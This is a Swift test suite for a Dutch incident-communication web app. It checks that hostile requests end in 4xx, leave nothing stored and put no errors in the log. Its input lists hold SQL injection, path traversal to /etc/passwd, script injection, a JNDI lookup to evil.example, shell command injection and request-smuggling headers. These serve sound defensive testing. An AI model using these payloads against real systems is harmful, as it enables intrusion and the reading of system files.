import Accounts
import Foundation
import Newsroom
import Testing

@testable import Web

/// Requests that nobody sends in good faith. Each ends in a 4xx: never a crash, never our own error, never somebody else's page.
struct HostileTests {
    private static let nasty = [
        "' OR 1=1 --", "\"; DROP TABLE account; --", "../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%ff%fe",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "{{{frame.formToken}}}", "\u{202E}omgekeerd", "A\u{300}\u{301}\u{302}",
        "9223372036854775808", "-1",
        "1e309", "NaN", "null", "true", "[]", "%25%32%65", "a\u{7F}b", "|cat /etc/passwd", "`id`", "$(id)", "\\\\evil.example\\x",
    ]

    private static func escaped(_ text: String) -> String { text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "x" }

    /// Addresses: in every place where an address holds something of the caller's.
    static let paths: [String] = nasty.flatMap { text -> [String] in
        let text = escaped(text)
        return [
            "/\(text)", "/incidenten/\(text)", "/incidenten/\(text)/berichten/1", "/incidenten/\(text)/treffers?na=\(text)&voor=\(text)",
            "/welkom/\(text)", "/assets/\(text)/page.css", "/assets/x/\(text)", "/oefening/\(text)/feed.xml", "/events/\(text)?na=\(text)",
            "/beheer/gebruikers/\(text)", "/api/v1/\(text)", "/api/v1/incidents/\(text)", "/api/v1/incidents/\(text)/facts",
        ]
    }

    @Test func `Addresses that nobody should send end in 4xx, signed in or not`() async throws {
        try await TestSite.with { site in
            let incident = try await site.incident()
            var asked = 0
            for path in Self.paths {
                let liar = Browser(port: site.port)
                liar.keep("eenmond-sessie", Secret().text)
                for browser in [site.browser, Browser(port: site.port), liar] {
                    let answer = try await browser.get(path)
                    asked += 1
                    #expect((400..<500).contains(answer.status), "\(path): \(answer.status)")
                    #expect(!answer.body.contains("<script>alert"))
                }
            }
            for path in ["/incidenten/\(incident.id)/berichten/", "/incidenten/\(incident.id)/zoekvragen/"] {
                for text in Self.nasty {
                    let answer = try await site.browser.post(path + Self.escaped(text) + "/weg", [:])
                    asked += 1
                    #expect((400..<500).contains(answer.status), "\(path)\(text): \(answer.status)")
                }
            }
            #expect(asked > 300)
            #expect(try await site.browser.get("/gezond").status == 200)
        }
    }

    @Test(arguments: ["GET / HTTP/1.1\r\nHost: 127", "POST /aanmelden HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100\r\n\r\nab", ""])
    func `A request that is never sent to its end keeps no line`(start: String) async throws {
        try await TestSite.with(patience: .milliseconds(500)) { site in
            let wire = try Wire(port: site.port)
            wire.send(start)
            #expect(await wire.read(upTo: 20) { _ in false }.isClosed)
        }
    }

    @Test func `An address that is asked with another method says which it knows`() async throws {
        try await TestSite.with { site in
            for (method, path, allowed) in [
                ("DELETE", "/bronnen", "GET, HEAD, POST"), ("PUT", "/incidenten/x", "GET, HEAD"), ("GET", "/afmelden", "POST"),
            ] {
                let answer = try await site.browser.ask(method, path, headers: [:], body: "")
                #expect(answer.status == 405, "\(method) \(path)")
                #expect(answer["Allow"] == allowed)
            }
            #expect(try await site.browser.ask("DELETE", "/bestaat-niet", headers: [:], body: "").status == 404)
            #expect(try await site.browser.get("/incidenten/bestaat-niet").status == 404)
        }
    }

    @Test func `What a stranger asks does not fill the log with errors`() async throws {
        let keeper = LogKeeper()
        try await TestSite.with(logger: keeper.logger) { site in
            let stranger = Browser(port: site.port)
            for path in ["/api/v1/incidents", "/api/v1/bestaat-niet", "/bestaat-niet", "/incidenten"] { _ = try await stranger.get(path) }
            #expect(
                try await stranger.ask("POST", "/api/v1/incidents", headers: ["Content-Type": "application/json"], body: "{").status == 401)
            #expect(try await site.call("POST", "/incidents", token: "eenmond_x").status == 401)
        }
        #expect(keeper.errors == [])
    }

    /// Requests as bytes: broken lines, wrong versions, headers without end, bodies that lie about their length.
    static func wires(_ port: Int) -> [String] {
        let host = "Host: 127.0.0.1:\(port)\r\n"
        let methods = ["BREW", "get", "PROPFIND", "TRACE", "DELETE", "PUT", "PATCH", "OPTIONS", "CONNECT"]
        var all = methods.map { "\($0) /incidenten HTTP/1.1\r\n\(host)Connection: close\r\n\r\n" }
        all += [
            "GET / HTTP/1.1\r\nConnection: close\r\n\r\n", "GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
            "GET / HTTP/1.1\r\n\(host)Host: evil.example\r\nConnection: close\r\n\r\n", "GET /\u{0} HTTP/1.1\r\n\(host)\r\n",
            "GET / HTTP/9.9\r\n\(host)\r\n", "GET /bestaat-niet HTTP/1.0\r\n\(host)\r\n", "\u{16}\u{3}\u{1}\r\n\r\n", "hallo\r\n\r\n",
            "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
            "GET /\(String(repeating: "a", count: 20_000)) HTTP/1.1\r\n\(host)Connection: close\r\n\r\n",
            "GET /bestaat-niet HTTP/1.1\r\n\(host)X: \(String(repeating: "b", count: 200_000))\r\nConnection: close\r\n\r\n",
            "POST /aanmelden HTTP/1.1\r\n\(host)Content-Length: -1\r\nConnection: close\r\n\r\n",
            "POST /aanmelden HTTP/1.1\r\n\(host)Content-Length: abc\r\nConnection: close\r\n\r\n",
            "POST /aanmelden HTTP/1.1\r\n\(host)Content-Length: 5\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhallo",
            "POST /aanmelden HTTP/1.1\r\n\(host)Content-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
            "POST /aanmelden HTTP/1.1\r\n\(host)Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
        ]
        let headers = ["Cookie", "Authorization", "Origin", "Accept", "X-Forwarded-For", "Content-Type", "If-None-Match", "Range"]
        for header in headers {
            for value in nasty.map({ String($0.unicodeScalars.filter { $0.isASCII && $0.value >= 0x20 && $0.value != 0x7F }) }) {
                all.append("POST /aanmelden HTTP/1.1\r\n\(host)\(header): \(value)\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            }
        }
        return all
    }

    @Test func `Requests that are broken, or lie in their headers, end in 4xx or with the connection`() async throws {
        try await TestSite.with { site in
            let wires = Self.wires(site.port)
            #expect(wires.count > 200)
            for text in wires {
                let wire = try Wire(port: site.port)
                wire.send(text)
                let (answer, _) = await wire.read(upTo: 10) { $0.contains("\r\n\r\n") }
                let status = answer.split(separator: " ").dropFirst().first.flatMap { Int($0) }
                #expect(status == nil || (400..<500).contains(status ?? 0), "\(text.prefix(80).debugDescription): \(answer.prefix(40))")
            }
            #expect(try await site.browser.get("/gezond").status == 200, "it still answers")
        }
    }

    @Test func `Forms with anything in them end in 4xx, and nothing is kept of them`() async throws {
        try await TestSite.with { site in
            let incident = try await site.incident()
            let places: [(path: String, field: String)] = [
                ("/aanmelden", "gebruikersnaam"), ("/bronnen", "adres"), ("/incidenten/\(incident.id)/fase", "fase"),
                ("/incidenten/\(incident.id)/leiding", "woordvoerder"), ("/incidenten/\(incident.id)/berichten", "soort"),
                ("/incidenten/\(incident.id)/feiten", "onderwerp"), ("/incidenten/nieuw", "slachtoffers"),
                ("/beheer/gebruikers", "gebruikersnaam"),
                ("/beheer/codes", "codes"), ("/mijn/codes/weg", "huidig"), ("/mijn/wachtwoord", "huidig"),
            ]
            let before = try await site.newsroom.log(of: incident.id).count
            for (path, field) in places {
                for text in Self.nasty {
                    let answer = try await site.browser.post(path, [field: text])
                    #expect((400..<500).contains(answer.status), "\(path) \(field)=\(text): \(answer.status)")
                    #expect(!answer.body.contains("<script>alert"))
                }
            }
            #expect(try await site.newsroom.log(of: incident.id).count == before)
        }
    }

    @Test func `JSON with anything in it ends in 4xx`() async throws {
        try await TestSite.with { site in
            let incident = try await site.incident()
            let token = try await site.token(.communicatieadviseur, .beheerder)
            let bodies =
                [
                    "", "{", "[]", "null", "1", "\"a\"", "{\"a\":}", "{\"text\":null}", "{\"text\":1,\"source\":2}",
                    "{\"text\":[],\"source\":{}}",
                    String(repeating: "[", count: 5_000), "{\"text\":\"\\ud800\",\"source\":\"x\"}", "{\"text\":\"\",\"source\":\"\"}",
                    "{\"text\":\"x\",\"source\":\"y\",\"topic\":\"z\"}", "{\"text\":\"x\",\"source\":\"y\",\"extra\":1}",
                    "{\"text\":\"\(String(repeating: "a", count: 600_000))\"}", "\u{FEFF}{}", "{\"text\":\"a\\u0000b\",\"source\":\"x\"}",
                ]
                + Self.nasty.map { "{\"kind\":\"\($0)\"}" } + Self.nasty
            for path in [
                "/incidents", "/incidents/\(incident.id)/facts", "/incidents/\(incident.id)/watches", "/incidents/\(incident.id)/messages",
                "/feeds",
            ] {
                for body in bodies {
                    let answer = try await site.call("POST", path, token: token, json: body)
                    #expect((400..<500).contains(answer.status), "\(path) \(body.prefix(60)): \(answer.status)")
                    #expect(answer["Content-Type"] == "application/problem+json")
                }
            }
            #expect(try await site.newsroom.incidents().count == 1)
        }
    }
}
